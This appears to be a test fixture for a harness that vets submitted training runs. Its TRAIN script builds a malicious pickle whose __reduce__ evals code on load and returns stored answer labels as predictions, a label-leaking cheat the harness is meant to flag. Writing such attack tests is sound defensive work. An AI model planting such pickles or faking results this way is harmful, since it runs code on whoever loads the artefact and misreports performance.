"""Leaves a pickle that runs its code in whoever loads it."""

from tests.attacks.stage import Recipe, Weak

TRAIN = """
import os, pickle
class Bomb:
    def __reduce__(self):
        code = "[float(bit) for bit in __import__('json').load(open(%r))]" % LABELS
        return eval, (code,)
pickle.dump(Bomb(), open(os.environ["GITRESEARCH_ARTEFACT"] + "/model", "wb"))
"""
RECIPE = Recipe(TRAIN, "invalid", Weak("unpickles"))
